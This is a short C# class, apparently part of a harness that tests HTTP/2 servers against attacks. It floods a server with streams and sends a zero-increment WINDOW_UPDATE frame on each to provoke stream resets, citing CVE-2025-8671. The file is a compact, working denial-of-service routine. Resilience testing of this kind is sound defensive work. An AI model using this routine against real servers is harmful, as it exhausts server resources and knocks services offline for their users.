using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Frames;

/// <summary>Makes the server reset streams by frames that are wrong (CVE-2025-8671): each costs it a call.</summary>
internal sealed class ResetsProvoked : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
    {
        for (int i = 0; i < target.Count(100, 5000) && !peer.Gone; i++)
        {
            int stream = await peer.OpenAsync();
            await peer.WriteAsync(Peer.WindowUpdate(stream, 0)); // RFC 9113, 6.9: a stream error
        }
    });
}
